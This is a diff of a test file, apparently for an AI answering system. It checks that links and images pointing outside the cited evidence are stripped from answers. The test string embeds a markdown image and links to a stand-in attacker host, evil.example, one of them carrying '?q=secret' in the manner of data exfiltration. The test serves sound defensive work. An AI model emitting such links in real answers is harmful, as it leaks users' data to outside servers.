@@ -184,7 +184,7 @@ describe('what the model is asked', () => {
 test('links to where no source points do not reach the caller, nor do images', async () => {
   const evidence = founded.evidence;
   says({
-    text: 'Clara Vance founded it in 1887 ![museum](https://evil.example/?q=secret) [by Clara](https://evil.example/a) https://evil.example/b www.evil.example.',
+    text: 'Clara Vance [founded it](https://evil.example/a) in 1887 ![Harbor Museum](https://evil.example/?q=secret) https://evil.example/b www.evil.example.',
     evidence,
   });
   const { answer: text } = await answer();
